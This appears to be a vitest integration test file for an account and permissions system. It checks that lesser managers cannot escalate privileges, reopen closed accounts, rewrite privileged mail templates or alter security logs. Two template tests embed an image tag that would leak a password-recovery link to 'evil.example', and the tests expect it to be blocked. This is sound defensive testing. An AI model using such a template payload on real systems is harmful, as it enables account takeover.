import { randomUUID } from 'node:crypto'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { accountsFeature } from '../../src/server/features/identity/accounts'
import { type Answer, type Caller, caller, login, signedIn } from '../support/api'
import { runBatch } from '../support/batch'
import { type TestServer, testServer } from '../support/server'

const USERS = '/api/auth/users'
const GROUPS = '/api/auth/groups'
const TEMPLATES = '/api/conf/email-templates'

describe('whoever may not grant a right may not touch what leads to it', { timeout: 400_000 }, () => {
  let server: TestServer
  let admin: Caller
  let manager: Caller
  beforeAll(async () => {
    server = await testServer()
    admin = await signedIn(server.url, 'admin')
    manager = await signedIn(server.url, 'laura.bianchi')
  }, 400_000)
  afterAll(() => server?.drop())

  const said = ({ body, status }: Answer) => [status, body.errorCode]
  const user = async (name: string) => {
    const { id } = (await admin.get(`${USERS}?usernameEquals=${name}`)).body.data.items[0]
    return (await admin.get(`${USERS}/${id}`)).body.data
  }
  const mails = async () => {
    const text = 'select event, recipient, html from mail_message order by created_at desc, id desc'
    return (await server.db.query<{ event: string; recipient: string; html: string }>(text)).rows
  }

  const CHANGES = [
    { email: 'laura.bianchi@tessera.example' },
    { username: 'capo' },
    { fullname: 'Capo' },
    { subject: null },
    { lang: 'en' },
    { passwordExpiresOn: '2020-01-01' },
    { mustChangePassword: true },
    { userType: 'CUSTOMER' },
    { onBoard: false },
    {},
  ]
  test.each(CHANGES)(
    'a manager does not change %j of an administrator, one by one, many at once or by an import',
    async (change) => {
      const before = await user('admin')
      expect(said(await manager.put(`${USERS}/${before.id}`, { ...before, ...change }))).toEqual([
        403,
        'FORBIDDEN',
      ])
      expect(said(await manager.put(`${USERS}/${before.id}`, change))).toEqual([403, 'FORBIDDEN'])
      if (Object.keys(change).length === 0) return
      for (const order of [
        { operation: 'update', ids: [before.id], changes: change },
        { operation: 'import', changes: { mode: 'update', key: 'id', rows: [{ id: before.id, ...change }] } },
        {
          operation: 'import',
          changes: { mode: 'both', key: 'username', rows: [{ ...change, username: 'admin' }] },
        },
      ]) {
        const batch = await runBatch(manager, USERS, order)
        expect(
          batch.failures.map(({ code }) => code),
          JSON.stringify(order),
        ).toEqual(['FORBIDDEN'])
      }
      expect(await user('admin')).toEqual(before)
    },
  )

  test('a manager may not change status, recovery link, second step, sessions or deletion of a stronger account', async () => {
    const { id } = await user('admin')
    expect((await manager.get(`${USERS}/${id}`)).body.data.extraFields.access).toMatchObject({
      mayWrite: false,
    })
    for (const [method, path, body] of [
      ['PUT', `${USERS}/statuses/${id}?newStatus=LOCKED`, {}],
      ['PUT', `${USERS}/statuses/${id}?newStatus=NONE`, {}],
      ['POST', `${USERS}/${id}/recover-link`, {}],
      ['PUT', `${USERS}/deletes/${id}`, {}],
      ['PUT', `${USERS}/${id}/un-deletes`, {}],
      ['PUT', `/api/auth/second-step/resets/${id}`, {}],
      ['PUT', `/api/auth/tokens/revokes/all/${id}`, {}],
    ] as const)
      expect(said(await manager.call(method, path, body)), path).toEqual([403, 'FORBIDDEN'])
    for (const order of [
      { operation: 'status', ids: [id], changes: { status: 'LOCKED' } },
      { operation: 'call', ids: [id], changes: { action: 'resetPassword' } },
    ]) {
      const batch = await runBatch(manager, USERS, order)
      expect(batch.failures.map(({ code }) => code)).toEqual(['FORBIDDEN'])
    }
    expect((await login(server.url, 'admin')).status).toBe(200)
    expect((await mails()).filter(({ recipient }) => recipient === 'admin@tessera.example')).toEqual([])
  })

  test('authorities are compared, not roles: who is given more is out of reach, who has less is not', async () => {
    const clerk = await user('ufficio')
    const mine = await manager.get(`${USERS}/${clerk.id}`)
    expect(mine.body.data.extraFields.access?.mayWrite ?? true).toBe(true)
    expect((await manager.put(`${USERS}/${clerk.id}`, { ...mine.body.data, lang: 'en' })).status).toBe(200)
    const batch = await runBatch(manager, USERS, {
      operation: 'update',
      ids: [clerk.id],
      changes: { lang: 'it' },
    })
    const group = (
      await admin.post(GROUPS, { code: 'KEYS', name: { it: 'Chiavi', en: 'Keys' }, authorities: ['ACL_W'] })
    ).body.data
    const now = await user('ufficio')
    expect(
      (await admin.put(`${USERS}/${clerk.id}`, { ...now, groups: [...now.groups, { id: group.id }] })).status,
    ).toBe(200)
    await expect
      .poll(async () => (await manager.get(`${USERS}/${clerk.id}`)).body.data.extraFields.access?.mayWrite)
      .toBe(false)
    const later = (await manager.get(`${USERS}/${clerk.id}`)).body.data
    expect(said(await manager.put(`${USERS}/${clerk.id}`, { ...later, email: 'x@y.example' }))).toEqual([
      403,
      'FORBIDDEN',
    ])
    // What they did before cannot be undone either.
    const undone = await runBatch(manager, USERS, { operation: 'undo', changes: { token: batch.undoToken } })
    expect(undone.failures.map(({ code }) => code)).toEqual(['FORBIDDEN'])
  })

  test('a manager who may change groups and memberships gives no one, least of all themselves, what they do not hold', async () => {
    const groups = (await admin.get(`${GROUPS}?size=200`)).body.data.items as { id: string; code: string }[]
    const idOf = (code: string) => groups.find((one) => one.code === code)?.id ?? ''
    const own = (await admin.get(`${GROUPS}/${idOf('ROLE_MANAGER')}`)).body.data
    const more = { ...own, authorities: [...own.authorities, 'GROUP_W', 'GROUP_D'] }
    expect((await admin.put(`${GROUPS}/${own.id}`, more)).status).toBe(200)
    await expect
      .poll(async () => (await manager.get('/api/auth/whoami')).body.data.authorities)
      .toContain('GROUP_W')

    const mine = (await manager.get(`${GROUPS}/${own.id}`)).body.data
    for (const word of ['ROLE_ADMIN', 'ACL_W'])
      expect(
        said(await manager.put(`${GROUPS}/${own.id}`, { ...mine, authorities: [...mine.authorities, word] })),
      ).toEqual([403, 'FORBIDDEN'])
    const made = { name: { it: 'Corona', en: 'Crown' }, authorities: ['ROLE_ADMIN'] }
    const answer = await manager.post(GROUPS, made)
    expect(said(answer), JSON.stringify(answer.body.errors)).toEqual([403, 'FORBIDDEN'])
    expect(
      (await manager.put(`${GROUPS}/${own.id}`, { ...mine, authorities: [...mine.authorities] })).status,
    ).toBe(200)
    // What one may write, one may create: a file without a list of its own for creating means the holders of
    // its authority.
    const plain = await manager.post(GROUPS, { name: { it: 'Semplice', en: 'Plain' }, authorities: [] })
    expect(plain.status, JSON.stringify(plain.body)).toBe(201)
    const crown = idOf('ROLE_ADMIN')
    for (const path of [
      `${GROUPS}/${crown}`,
      `${GROUPS}/statuses/${crown}?newStatus=DISABLED`,
      `${GROUPS}/deletes/${crown}`,
    ])
      expect(said(await manager.put(path, {})), path).toEqual([403, 'FORBIDDEN'])
  })

  test('a group is given by nobody who holds less than it, even where the file lets managers give groups', async () => {
    const { items } = (await admin.get(`${GROUPS}?codeEquals=ROLE_ADMIN`)).body.data
    const crown = { id: items[0].id }
    const give = async (name: string) => {
      const seen = (await manager.get(`${USERS}/${(await user(name)).id}`)).body.data
      return manager.put(`${USERS}/${seen.id}`, { ...seen, groups: [...seen.groups, crown] })
    }
    expect((await give('sola.lettura')).body.errors).toMatchObject([{ path: 'groups', code: 'READ_ONLY' }])
    const file = join(server.schemas, 'entities', 'users.json')
    const text = readFileSync(file, 'utf8')
    const open = JSON.parse(text)
    delete open.record.properties.groups.write
    writeFileSync(file, JSON.stringify(open))
    await expect
      .poll(async () => said(await give('sola.lettura')), { timeout: 20_000 })
      .toEqual([403, 'FORBIDDEN'])
    expect(said(await give('laura.bianchi')), 'the own account').toEqual([403, 'FORBIDDEN'])
    const { groups, id } = await user('sola.lettura')
    await runBatch(manager, USERS, {
      operation: 'update',
      ids: [id],
      changes: { groups: [...groups, crown] },
    })
    expect((await user('sola.lettura')).groups, 'many at once').toEqual(groups)
    const more = { fullname: 'Re', email: 're@posta.example', lang: 'it', userType: 'STAFF', groups: [crown] }
    expect(said(await manager.post(USERS, { username: 're', ...more })), 'a new account').toEqual([
      403,
      'FORBIDDEN',
    ])
    writeFileSync(file, text)
  })

  test('what was deleted and holds more is brought back by nobody who holds less, alone or among many', async () => {
    const relic = { code: 'RELIC', name: { it: 'Reliquia', en: 'Relic' }, authorities: ['ROLE_ADMIN'] }
    const { id } = (await admin.post(GROUPS, relic)).body.data
    expect((await admin.put(`${GROUPS}/deletes/${id}`)).status).toBe(200)
    expect((await manager.get('/api/auth/whoami')).body.data.authorities, 'by the test before').toContain(
      'GROUP_D',
    )
    expect(said(await manager.put(`${GROUPS}/${id}/un-deletes`))).toEqual([403, 'FORBIDDEN'])
    const batch = await runBatch(manager, GROUPS, { operation: 'restore', ids: [id] })
    expect(batch.failures.map(({ code }) => code)).toEqual(['FORBIDDEN'])
    expect((await admin.get(`${GROUPS}/${id}`)).body.data.delete).toMatchObject({ deleted: true })
  })

  test('an invitation opens no account that was shut, and none that may do more than whoever invites', async () => {
    const INVITATIONS = '/api/webaccess/invitations'
    const clerk = await signedIn(server.url, 'ufficio')
    const links = async (to: string) =>
      (await mails())
        .filter(({ event, recipient }) => event === 'INVITATION' && recipient === to)
        .map(({ html }) => linkIn(html))
    const linkIn = (html: string) => /[?&]u=([0-9a-f-]{36})/.exec(html)?.[1] ?? ''
    const invite = async (email: string) => {
      const made = await clerk.post(INVITATIONS, {
        email,
        invitationKind: 'COLLAB',
        type: 'COLLABORATOR',
        lang: 'it',
      })
      if (made.status === 201)
        await clerk.put(`${INVITATIONS}/statuses/${made.body.data.id}?newStatus=SENT`, made.body.data)
      return said(made)
    }
    const prepared = async (name: string, groups: readonly string[]) => {
      const all = (await admin.get(`${GROUPS}?size=200`)).body.data.items as { id: string; code: string }[]
      const given = all.filter(({ code }) => groups.includes(code)).map(({ id }) => ({ id }))
      const more = {
        fullname: name,
        email: `${name}@posta.example`,
        lang: 'it',
        userType: 'STAFF',
        onBoard: false,
      }
      const made = await admin.post(USERS, { username: name, groups: given, ...more })
      expect(made.status, JSON.stringify(made.body)).toBe(201)
      return made.body.data as { id: string }
    }
    await prepared('futuro.capo', ['ROLE_ADMIN'])
    await expect.poll(() => invite('futuro.capo@posta.example')).toEqual([403, 'FORBIDDEN'])

    const gone = await prepared('ex.collega', ['ROLE_USER'])
    expect(await invite('ex.collega@posta.example')).toEqual([201, undefined])
    await expect.poll(() => links('ex.collega@posta.example')).toHaveLength(1)
    const [open] = (await admin.get(`${INVITATIONS}?statusEquals=SENT&q=ex.collega`)).body.data.items
    expect((await admin.put(`${INVITATIONS}/statuses/${open.id}?newStatus=CANCELLED`, open)).status).toBe(200)
    expect((await admin.put(`${USERS}/statuses/${gone.id}?newStatus=DISABLED`, {})).status).toBe(200)
    expect(await invite('ex.collega@posta.example')).toEqual([201, undefined])
    await expect.poll(() => links('ex.collega@posta.example')).toHaveLength(2)
    const { rows } = await server.db.query<{ owner: string | null }>(
      "select user_id as owner from account_link where email = 'ex.collega@posta.example' order by created_at",
    )
    expect(
      rows.map(({ owner }) => owner),
      'a shut account is not what the second link leads to',
    ).toEqual([gone.id, null])
    for (const uuid of await links('ex.collega@posta.example')) {
      const visitor = caller(server.url)
      const asked = (await visitor.get(`/api/privacy/definition/agreements?entity=REGISTRATION&u=${uuid}`))
        .body.data as { agreement: { id: string } }[] | undefined
      const serviceAgreements = Object.fromEntries(
        (asked ?? []).map(({ agreement }) => [agreement.id, 'agree']),
      )
      const secrets = { password: 'quattro gatti in cortile', confirmPassword: 'quattro gatti in cortile' }
      const who = {
        name: 'Ex',
        lastname: 'Collega',
        email: 'ex.collega@posta.example',
        username: 'ex.collega@posta.example',
      }
      const more = { subjectType: 'PERSON', type: 'COLLABORATOR', uuid, serviceAgreements }
      const saved = await visitor.post('/api/webaccess/registration', { ...who, ...secrets, ...more })
      expect(saved.status, JSON.stringify(saved.body)).toBeGreaterThanOrEqual(400)
    }
    expect(await user('ex.collega')).toMatchObject({ status: 'DISABLED', onBoard: false })
  })

  test('templates of mails about accounts are the administrators’; others are not', async () => {
    const { items } = (await admin.get(`${TEMPLATES}?size=100`)).body.data as {
      items: { id: string; event: string }[]
    }
    const found = items.find(({ event }) => event === 'RECOVER_PASSWORD')
    const body = { it: '<img src="https://evil.example/?{{link.recover}}">', en: 'x' }
    const fresh = { name: 'Mio', event: 'FREE', subjectLine: { it: 'a', en: 'a' }, body }
    const template = found ?? (await admin.post(TEMPLATES, { ...fresh, event: 'RECOVER_PASSWORD' })).body.data
    const seen = (await manager.get(`${TEMPLATES}/${template.id}`)).body.data
    expect(seen.extraFields.access).toMatchObject({ mayWrite: false })
    expect(said(await manager.put(`${TEMPLATES}/${template.id}`, { ...seen, body }))).toEqual([
      403,
      'FORBIDDEN',
    ])
    expect(said(await manager.put(`${TEMPLATES}/statuses/${template.id}?newStatus=DISABLED`, {}))).toEqual([
      403,
      'FORBIDDEN',
    ])
    expect(said(await manager.post(TEMPLATES, { ...fresh, event: 'RECOVER_PASSWORD' }))).toEqual([
      403,
      'FORBIDDEN',
    ])
    expect((await manager.post(TEMPLATES, fresh)).status, 'no flow fills its link').toBe(422)
    const free = await manager.post(TEMPLATES, { ...fresh, body: { it: 'x', en: 'x' } })
    expect(free.status, JSON.stringify(free.body)).toBe(201)
    const turned = { ...free.body.data, event: 'NEW_PASSWORD' }
    expect(
      (await manager.put(`${TEMPLATES}/${free.body.data.id}`, turned)).status,
      'no event of the file',
    ).toBe(422)
    expect(
      said(await manager.put(`${TEMPLATES}/${free.body.data.id}`, { ...turned, event: 'INVITATION' })),
    ).toEqual([403, 'FORBIDDEN'])
  })

  test('the template of an administrator sends a live link only to its receiver', async () => {
    const body = {
      it: '<p>{{user.fullname}}</p><img src="https://evil.example/?u={{link.recover}}">',
      en: 'x',
    }
    const { items } = (await admin.get(`${TEMPLATES}?eventEquals=RECOVER_PASSWORD`)).body.data
    const known = (await admin.get(`${TEMPLATES}/${items[0].id}`)).body.data
    expect((await admin.put(`${TEMPLATES}/${known.id}`, { ...known, body })).status).toBe(200)
    const { id } = await user('davide.moretti')
    expect((await admin.post(`${USERS}/${id}/recover-link`, {})).status).toBe(200)
    const sent = (await mails()).find(({ event }) => event === 'RECOVER_PASSWORD')
    expect(sent?.html ?? '').toContain('Davide Moretti')
    expect(sent?.html ?? '').not.toMatch(/evil|<img/)
  })

  test('another e-mail address ends every link, and the old address is told; so does another password', async () => {
    const visitor = caller(server.url)
    const links = async (name: string) => {
      const { rows } = await server.db.query<{ open: number }>(
        'select count(*)::integer as open from account_link where used_at is null and user_id = $1',
        [(await user(name)).id],
      )
      return rows[0]?.open
    }
    const ask = async (name: string) => {
      await visitor.post('/api/webaccess/recover-password-link', { username: name, lang: 'it' })
      await expect.poll(() => links(name)).toBe(1)
    }
    await ask('sola.lettura')
    const viewer = await user('sola.lettura')
    const mine = (await manager.get(`${USERS}/${viewer.id}`)).body.data
    expect(
      (await manager.put(`${USERS}/${viewer.id}`, { ...mine, email: 'nuova@tessera.example' })).status,
    ).toBe(200)
    expect(await links('sola.lettura')).toBe(0)
    const told = (await mails()).filter(({ event }) => event === 'EMAIL_CHANGED')
    expect(told.map(({ recipient }) => recipient)).toEqual([viewer.email])
    expect(told[0]?.html ?? '').not.toContain('nuova@')

    await ask('sola.lettura')
    const many = await runBatch(manager, USERS, {
      operation: 'update',
      ids: [viewer.id],
      changes: { email: 'terza@tessera.example' },
    })
    expect([many.failures, await links('sola.lettura')]).toEqual([[], 0])

    await ask('giulia.neri')
    const giulia = await signedIn(server.url, 'giulia.neri')
    const form = {
      username: 'giulia.neri',
      oldPassword: 'Tessera-demo-2026',
      newPassword: 'quattro gatti in cortile',
      confirmPassword: 'quattro gatti in cortile',
    }
    const changed = await giulia.post('/api/auth/change-password', new URLSearchParams(form).toString(), {
      'content-type': 'application/x-www-form-urlencoded',
    })
    expect([changed.status, await links('giulia.neri')]).toEqual([200, 0])
    expect(
      (await mails()).filter(({ event }) => event === 'PASSWORD_CHANGED').map(({ recipient }) => recipient),
    ).toEqual(['giulia.neri@posta.example'])
  })

  test('entries of the security log are nobody’s to delete or to rewrite', async () => {
    await login(server.url, 'admin', randomUUID())
    await server.use(accountsFeature).security.settle()
    const path = '/api/monitor/security'
    const { items } = (await admin.get(path)).body.data
    const entry = (await admin.get(`${path}/${items[0].id}`)).body.data
    expect(said(await admin.put(`${path}/deletes/${entry.id}`))).toEqual([403, 'FORBIDDEN'])
    const batch = await runBatch(admin, path, { operation: 'delete', ids: [entry.id] })
    expect(batch.failures.map(({ code }) => code)).toEqual(['FORBIDDEN'])
    const forged = {
      kind: 'LOGIN',
      at: '2020-01-01T00:00:00Z',
      user: null,
      ip: '1.1.1.1',
      details: 'nothing',
    }
    await admin.put(`${path}/${entry.id}`, { ...entry, ...forged })
    const after = (await admin.get(`${path}/${entry.id}`)).body.data
    for (const field of Object.keys(forged)) expect(after[field], field).toEqual(entry[field])
    expect((await admin.post(path, forged)).status).toBe(403)
  })
})
